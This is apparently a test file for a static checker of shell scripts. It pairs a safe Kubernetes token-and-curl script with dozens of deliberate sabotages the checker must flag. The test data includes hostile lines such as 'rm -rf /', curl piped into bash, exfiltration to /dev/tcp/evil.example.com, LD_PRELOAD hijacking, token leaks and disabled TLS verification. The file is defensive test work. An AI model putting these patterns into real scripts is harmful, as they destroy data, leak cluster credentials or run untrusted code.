/** Named sabotages of a script that is proved: each is found, with its code, on its line. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { portion } from '../../support/size.js';
import { dryRun } from './dry-run.js';

const script = `#!/usr/bin/env bash
set -euo pipefail
export LC_ALL=C
umask 077
fail() {
  printf 'error: %s\\n' "$1" >&2
  exit 1
}
WORK=$(mktemp -d)
trap 'rm -rf -- "$WORK"' EXIT
CONTEXT='lab'
APISERVER=$(kubectl config view --minify --context="$CONTEXT" -o jsonpath='{.clusters[0].cluster.server}') || APISERVER=''
[ -n "$APISERVER" ] || fail 'no server'
kubectl config view --minify --raw --flatten --context="$CONTEXT" -o jsonpath='{.clusters[0].cluster.certificate-authority-data}' |
  base64 --decode >"$WORK/ca.crt" || fail 'no CA'
TOKEN=$(kubectl create token default --context="$CONTEXT" --namespace=default) || TOKEN=''
[ -n "$TOKEN" ] || fail 'no token'
case $TOKEN in *[!A-Za-z0-9._~+/=-]*) fail 'no usable token' ;; esac
STATUS=$(
  printf 'header = "Authorization: Bearer %s"\\n' "$TOKEN" |
    curl --disable --config - --request GET "$APISERVER/api" --cacert "$WORK/ca.crt" --capath "$WORK/ca.crt" --silent --show-error --max-time 60 --output "$WORK/response" --write-out '%{http_code}'
) || fail "curl could not call $APISERVER"
cat "$WORK/response"
case $STATUS in
  200) ;;
  *) fail "unexpected HTTP status $STATUS" ;;
esac
attempt=0
until [ "$(kubectl get secret old-token --context="$CONTEXT" --ignore-not-found -o name)" = '' ]; do
  attempt=$((attempt + 1))
  [ "$attempt" -lt 30 ] || fail 'it is still there'
  sleep 1
done
`;

/** [from, to, code, a piece of the line that the finding stands on (of `to`, where it is left out)] */
type Sabotage = readonly [from: string, to: string, code: string, on?: string];

const curlLine = 'curl --disable --config -';

const sabotages: Readonly<Record<string, Sabotage>> = {
  'the token of another cluster': [
    `token default --context="$CONTEXT"`,
    `token default --context=prod`,
    'KS4101',
    curlLine,
  ],
  'the server of another cluster': [
    `view --minify --context="$CONTEXT" -o`,
    `view --minify --context=prod -o`,
    'KS4101',
    curlLine,
  ],
  'the CA of another cluster': [
    `--flatten --context="$CONTEXT"`,
    `--flatten --context=prod`,
    'KS5005',
    curlLine,
  ],
  'a context that does not exist': [`CONTEXT='lab'`, `CONTEXT='labb'`, 'KS4003', 'APISERVER=$('],
  'a placeholder left in': [`CONTEXT='lab'`, `CONTEXT='<your-context>'`, 'KS4003', 'APISERVER=$('],
  'a namespace for a context': [
    `--context="$CONTEXT" --namespace=default`,
    `--context=default --namespace="$CONTEXT"`,
    'KS4003',
  ],
  'the token is printed': [`cat "$WORK/response"`, `echo "$TOKEN"`, 'KS5103'],
  'the token goes to the log on stderr': [`cat "$WORK/response"`, `printf '%s' "$TOKEN" >&2`, 'KS5103'],
  'set -x': ['umask 077', 'set -x', 'KS5103'],
  'a verbose kubectl': ['create token default', 'create token default --v=9', 'KS5103'],
  'the token as an argument': [
    `--config - --request`,
    `--header "Authorization: Bearer $TOKEN" --request`,
    'KS5101',
    '--header',
  ],
  'the token for oauth2-bearer': [
    `--config - --request`,
    `--oauth2-bearer "$TOKEN" --request`,
    'KS5101',
    '--oauth2',
  ],
  'the token in the URL': [`"$APISERVER/api"`, `"$APISERVER/api?access_token=$TOKEN"`, 'KS5102'],
  '-k': ['--disable --config', '--disable -k --config', 'KS5003'],
  '--insecure': ['--cacert "$WORK/ca.crt"', '--insecure', 'KS5003'],
  '-k among other letters': ['--silent --show-error', '-sSk', 'KS5003'],
  'an option of the configuration turns it off': [`%s"\\n'`, `%s"\\ninsecure\\n'`, 'KS5003', curlLine],
  'no CA': ['--cacert "$WORK/ca.crt" ', '', 'KS5005', curlLine],
  'a CA file of elsewhere': ['--cacert "$WORK/ca.crt"', '--cacert /etc/ssl/certs/ca.pem', 'KS5005'],
  'a CA file that nobody wrote': ['--cacert "$WORK/ca.crt"', '--cacert "$WORK/ca.pem"', 'KS5006'],
  http: [`"$APISERVER/api"`, `"http://127.0.0.1:6443/api"`, 'KS5002'],
  'a URL without a scheme': [`"$APISERVER/api"`, `"127.0.0.1:6443/api"`, 'KS5002'],
  'a URL without a host': [`"$APISERVER/api"`, `"/api"`, 'KS5001'],
  'a server that another name is glued to': [`"$APISERVER/api"`, `"$APISERVER.example.com/api"`, 'KS5001'],
  'a server in front of an at sign': [`"$APISERVER/api"`, `"https://lab@evil.example.com/api"`, 'KS5001'],
  'another host': [`"$APISERVER/api"`, `"https://evil.example.com/api"`, 'KS5106'],
  'another port': [`"$APISERVER/api"`, `"https://127.0.0.1:6444/api"`, 'KS5106'],
  redirects: ['--silent --show-error', '--location --silent --show-error', 'KS5004'],
  'redirects with credentials to anyone': ['--silent --show-error', '--location-trusted -sS', 'KS5004'],
  'a connection that goes elsewhere': [
    '--silent --show-error',
    `--connect-to '::evil.example.com:443' -sS`,
    'KS5106',
    curlLine,
  ],
  'a name that is resolved elsewhere': [
    '--silent --show-error',
    '--resolve 127.0.0.1:6443:10.0.0.1 -sS',
    'KS5106',
    curlLine,
  ],
  'a variable with a letter missing': [`Bearer %s"\\n' "$TOKEN"`, `Bearer %s"\\n' "$TOKN"`, 'KS2001'],
  'a variable with a letter too many': [`"$APISERVER/api"`, `"\${APISERVERS}/api"`, 'KS2001'],
  'an argument that was never given': [`fail 'no token'`, `fail "$2"`, 'KS2001'],
  'quotes forgotten around the server': [`"$APISERVER/api"`, `$APISERVER/api`, 'KS2103'],
  'quotes forgotten around a text with a space': [
    `CONTEXT='lab'`,
    `CONTEXT='lab'\nX='a b'; echo $X`,
    'KS2102',
    'echo $X',
  ],
  'quotes forgotten around what a server says': [
    `cat "$WORK/response"`,
    `echo $(cat "$WORK/response")`,
    'KS2102',
  ],
  'a pattern outside of quotes': [`cat "$WORK/response"`, `cat "$WORK"/*`, 'KS2102'],
  'single quotes around a variable': [`"$APISERVER/api"`, `'$APISERVER/api'`, 'KS5001'],
  'rm of a folder with nothing before it': [
    `'rm -rf -- "$WORK"'`,
    `'rm -rf -- "$TMP_WORK/"'`,
    'KS2001',
    'trap',
  ],
  'rm -rf of the root': ['cat "$WORK/response"', 'rm -rf /', 'KS3110'],
  'rm -rf of the home folder': ['cat "$WORK/response"', 'rm -rf ~', 'KS3110'],
  'rm -rf of a folder that may be empty': [
    'WORK=$(mktemp -d)',
    'WORK=$(mktemp -d) || WORK=\nrm -rf "$WORK/"',
    'KS3110',
    'rm -rf "$WORK/"',
  ],
  'curl into bash': [
    'cat "$WORK/response"',
    'curl -q -fsS --max-time 5 https://127.0.0.1:6443/x | bash',
    'KS3111',
  ],
  'eval of what the server says': ['cat "$WORK/response"', 'eval "$(cat "$WORK/response")"', 'KS3111'],
  'a file of elsewhere is run': ['umask 077', '. ./settings.sh', 'KS3111'],
  'a command by a name of the run': ['cat "$WORK/response"', '"$(cat "$WORK/response")"', 'KS3101'],
  'a command that is not known': ['cat "$WORK/response"', 'frobnicate "$WORK/response"', 'KS3102'],
  'another PATH': ['umask 077', 'export PATH="/tmp:$PATH"', 'KS3103'],
  'a preloaded library': ['umask 077', 'export LD_PRELOAD=/tmp/x.so', 'KS3103'],
  'a proxy for everything': ['umask 077', 'export HTTPS_PROXY=http://evil.example.com', 'KS3103'],
  'a network device': [
    'cat "$WORK/response"',
    'cat <"$WORK/response" >/dev/tcp/evil.example.com/80',
    'KS3104',
  ],
  'a file of the system': ['cat "$WORK/response"', 'echo x >/etc/motd', 'KS3105'],
  'a trap made of the run': [`trap 'rm -rf -- "$WORK"' EXIT`, `trap "rm -rf -- $WORK" EXIT`, 'KS3106'],
  'a trap for every command': [`trap 'rm -rf -- "$WORK"' EXIT`, `trap 'echo x' DEBUG`, 'KS3106'],
  'a format made of the run': [`printf 'error: %s\\n' "$1" >&2`, `printf "$1" >&2`, 'KS3107'],
  'a loop without an end': [`[ "$attempt" -lt 30 ] || fail 'it is still there'`, ':', 'KS3108', 'until'],
  'a job in the background': ['cat "$WORK/response"', 'kubectl get pods --context=lab &', 'KS3109'],
  'another kubectl verb': ['cat "$WORK/response"', 'kubectl exec -it pod -- sh', 'KS3201'],
  'another current context': ['umask 077', 'kubectl config use-context prod', 'KS3105'],
  'an option that kubectl does not have': ['create token default', 'create token default --for=1h', 'KS3301'],
  'an option that curl does not have': ['--max-time 60', '--max-wait 60', 'KS3301'],
  'an option without its value': [`--write-out '%{http_code}'`, '--write-out', 'KS3302'],
  'a template with a bracket missing': [
    `{.clusters[0].cluster.server}')`,
    `{.clusters[0.cluster.server}')`,
    'KS4001',
    'APISERVER=$(',
  ],
  'a template without braces': [`'{.clusters[0].cluster.server}'`, `'.clusters[0].cluster.server'`, 'KS4002'],
  'a template that finds nothing': [`cluster.server}')`, `cluster.sever}')`, 'KS4004', 'APISERVER=$('],
  'a CA that is hidden': ['--minify --raw --flatten', '--minify', 'KS4005', 'certificate-authority-data'],
  'a CA without decoding': ['base64 --decode >', 'cat >', 'KS5007', curlLine],
  'the server is decoded': [
    `cluster.server}') ||`,
    `cluster.server}' | base64 -d) ||`,
    'KS5007',
    'APISERVER=$(',
  ],
  'the first cluster, whichever it is': [
    `config view --minify --context="$CONTEXT" -o`,
    `config view -o`,
    'KS4102',
    'APISERVER=$(',
  ],
  'all servers in one text': [
    `config view --minify --context="$CONTEXT" -o jsonpath='{.clusters[0]`,
    `config view -o jsonpath='{.clusters[*]`,
    'KS4008',
    'APISERVER=$(',
  ],
  'an exit too early': ['cat "$WORK/response"', 'exit 0', 'KS2201'],
  'a condition that is never true': [
    `[ -n "$TOKEN" ] || fail 'no token'`,
    `[ -z lab ] || fail 'no token'`,
    'KS2201',
  ],
  'failures do not stop the script': ['set -euo pipefail', 'set -u', 'KS2202', 'WORK='],
  'a status that is hidden': ['TOKEN=$(kubectl create', 'export TOKEN=$(kubectl create', 'KS2104'],
  'a file that others can read': [
    'umask 077',
    'umask 022\nprintf %s "$(kubectl create token default --context=lab)" >token',
    'KS5104',
    '>token',
  ],
  'a file that stays': [
    'umask 077',
    'umask 077\nprintf %s "$(kubectl create token default --context=lab)" >token',
    'KS5105',
    '>token',
  ],
  'a variable for nothing': ['umask 077', "umask 077\nSERVER='x'", 'KS2002', 'SERVER='],
  'quotes of a word processor': [`fail 'no CA'`, 'fail \u2018no CA\u2019', 'KS1002'],
  'a letter of another alphabet': ['kubectl create token', 'kubectl cre\u0430te token', 'KS3201'],
  'an invisible character': ["CONTEXT='lab'", "CONTEXT='lab\u200b'", 'KS1002'],
  CRLF: ["CONTEXT='lab'", "CONTEXT='lab'\r", 'KS1002'],
  'a quote too few': [`fail 'no CA'`, `fail 'no CA`, 'KS1001', 'none'],
  'a here-document without an end': ['cat "$WORK/response"', 'cat <<END', 'KS1005'],
};

test('the script itself is proved', async () => {
  const report = await dryRun(script);
  assert.deepEqual(
    report.findings.filter((finding) => finding.severity !== 'info'),
    [],
  );
  assert.equal(report.verdict, 'proved');
});

for (const [name, [from, to, code, on]] of portion(Object.entries(sabotages), 20)) {
  test(name, async () => {
    assert.ok(script.includes(from), `the script does not hold ${from}`);
    const edited = script.replace(from, () => to);
    const report = await dryRun(edited);
    const found = report.findings.filter((finding) => finding.code === code && finding.severity !== 'info');
    const seen = report.findings
      .map((finding) => `${finding.line}:${finding.code} ${finding.message}`)
      .join('\n');
    assert.ok(found.length > 0, `no ${code}:\n${seen}`);
    if (on === 'none') return;
    const line = edited.slice(0, edited.indexOf(on ?? to)).split('\n').length;
    assert.ok(
      found.some((finding) => finding.line === line),
      `${code} is not on line ${line}:\n${seen}`,
    );
    assert.notEqual(report.verdict, 'proved');
  });
}
